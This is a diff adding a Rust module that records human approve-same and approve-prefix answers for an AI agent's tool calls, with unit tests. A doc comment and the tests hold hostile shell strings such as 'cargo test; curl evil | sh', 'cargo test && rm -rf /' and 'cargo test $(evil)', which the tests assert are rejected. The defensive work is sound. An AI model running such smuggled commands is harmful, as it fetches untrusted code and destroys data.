@@ -1,0 +1,194 @@
+//! Remembered answers: "approve this, and every proposal of this run like
+//! it". A person who answers `approve-same` approves the proposals with the
+//! same tool and the same arguments (their digest); `approve-prefix`, for
+//! `Bash`, the commands that run the same program and chain nothing after
+//! it. The interactor that took the answer keeps the rule for the
+//! rest of the run and answers matching proposals itself: each is still
+//! its own one-shot grant, and audited with the rule that answered it.
+
+use std::sync::Arc;
+
+use serde_json::Value;
+
+use super::grants::GrantRequest;
+use super::messages::Answer;
+
+/// Characters that chain, substitute or redirect in a shell command: a
+/// prefix rule never approves a command holding one, so `cargo test` does
+/// not approve `cargo test; curl evil | sh`.
+const SHELL_META: &[char] = &[
+    ';', '&', '|', '`', '$', '(', ')', '<', '>', '\n', '\r', '\\', '\'', '"', '*', '?', '{', '}',
+    '~',
+];
+
+/// A rule an answer left behind.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Remembered {
+    tool: String,
+    scope: Scope,
+    /// How the audit log names it.
+    pub describe: Arc<str>,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Scope {
+    SameArguments(String),
+    CommandPrefix(String),
+}
+
+impl Remembered {
+    /// The rule `answer` to `request` leaves, if it is a remembering one
+    /// (and, for a prefix, the command has one).
+    pub fn from_answer(
+        answer: Answer,
+        request: &GrantRequest,
+        args_json: &str,
+    ) -> Option<Remembered> {
+        match answer {
+            Answer::ApproveSame => Some(Remembered {
+                tool: request.tool.clone(),
+                scope: Scope::SameArguments(request.args_digest.clone()),
+                describe: format!(
+                    "approve-same: {} with arguments {}",
+                    request.tool, request.args_digest
+                )
+                .into(),
+            }),
+            Answer::ApprovePrefix => {
+                let command = bash_command(&request.tool, args_json)?;
+                let prefix = command_prefix(&command)?;
+                Some(Remembered {
+                    tool: request.tool.clone(),
+                    describe: format!("approve-prefix: Bash `{prefix}`").into(),
+                    scope: Scope::CommandPrefix(prefix),
+                })
+            }
+            Answer::Approve | Answer::Deny | Answer::Defer => None,
+        }
+    }
+
+    /// Whether this rule answers `request`.
+    pub fn matches(&self, request: &GrantRequest, args_json: &str) -> bool {
+        if request.tool != self.tool {
+            return false;
+        }
+        match &self.scope {
+            Scope::SameArguments(digest) => *digest == request.args_digest,
+            Scope::CommandPrefix(prefix) => bash_command(&request.tool, args_json)
+                .is_some_and(|command| prefix_matches(prefix, &command)),
+        }
+    }
+}
+
+/// The `command` of a `Bash` call.
+fn bash_command(tool: &str, args_json: &str) -> Option<String> {
+    if tool != "Bash" {
+        return None;
+    }
+    let args: Value = serde_json::from_str(args_json).ok()?;
+    args.get("command")?.as_str().map(str::to_owned)
+}
+
+/// The word a person's prefix answer keeps of `command`: the program it
+/// runs (`cargo` of `cargo test --lib`), which is what the prompt shows.
+/// (An answers file's `prefix:` may name more words.) `None` for a command
+/// that chains or redirects.
+pub fn command_prefix(command: &str) -> Option<String> {
+    if command.contains(SHELL_META) {
+        return None;
+    }
+    command.split_whitespace().next().map(str::to_owned)
+}
+
+/// Whether `command` starts with `prefix`'s words and holds nothing that
+/// chains, substitutes or redirects.
+pub fn prefix_matches(prefix: &str, command: &str) -> bool {
+    if command.contains(SHELL_META) {
+        return false;
+    }
+    let want: Vec<&str> = prefix.split_whitespace().collect();
+    let have: Vec<&str> = command.split_whitespace().collect();
+    !want.is_empty() && have.len() >= want.len() && have[..want.len()] == want[..]
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+    use crate::runtime::interaction::grants::{args_digest, args_summary};
+    use serde_json::json;
+
+    fn request(tool: &str, args: &Value) -> GrantRequest {
+        GrantRequest {
+            workflow_run_id: "r".into(),
+            stage_execution_id: "r/s/1".into(),
+            stage_id: "s".into(),
+            attempt: 1,
+            proposal_id: "p".into(),
+            tool: tool.into(),
+            args_digest: args_digest(args),
+            args_summary: args_summary(args),
+        }
+    }
+
+    #[test]
+    fn approve_same_matches_the_same_tool_and_arguments_only() {
+        let args = json!({"path": "a.txt", "content": "x"});
+        let rule = Remembered::from_answer(
+            Answer::ApproveSame,
+            &request("Write", &args),
+            &args.to_string(),
+        )
+        .unwrap();
+        assert!(rule.matches(&request("Write", &args), &args.to_string()));
+        let other = json!({"path": "b.txt", "content": "x"});
+        assert!(!rule.matches(&request("Write", &other), &other.to_string()));
+        assert!(!rule.matches(&request("Edit", &args), &args.to_string()));
+        assert!(Remembered::from_answer(Answer::Approve, &request("Write", &args), "{}").is_none());
+    }
+
+    #[test]
+    fn approve_prefix_matches_plain_commands_with_the_same_words() {
+        let cmd = |c: &str| json!({"command": c});
+        let first = cmd("cargo test --lib");
+        let rule = Remembered::from_answer(
+            Answer::ApprovePrefix,
+            &request("Bash", &first),
+            &first.to_string(),
+        )
+        .unwrap();
+        assert_eq!(&*rule.describe, "approve-prefix: Bash `cargo`");
+        for (c, ok) in [
+            ("cargo test", true),
+            ("cargo test -p troupe", true),
+            ("cargo build", true),
+            ("cargox test", false),
+            ("rm -rf x", false),
+            ("cargo test; curl x | sh", false),
+            ("cargo test && rm -rf /", false),
+            ("cargo test $(evil)", false),
+            ("cargo test > /etc/passwd", false),
+        ] {
+            let args = cmd(c);
+            assert_eq!(
+                rule.matches(&request("Bash", &args), &args.to_string()),
+                ok,
+                "{c}"
+            );
+        }
+        assert_eq!(command_prefix("ls -la"), Some("ls".to_owned()));
+        assert!(prefix_matches("cargo test", "cargo test --lib"));
+        assert!(!prefix_matches("cargo test", "cargo build"));
+        assert_eq!(command_prefix("make | tee"), None);
+        // A command that chains leaves no prefix rule at all.
+        let chained = cmd("cargo test; rm x");
+        assert!(
+            Remembered::from_answer(
+                Answer::ApprovePrefix,
+                &request("Bash", &chained),
+                &chained.to_string()
+            )
+            .is_none()
+        );
+    }
+}
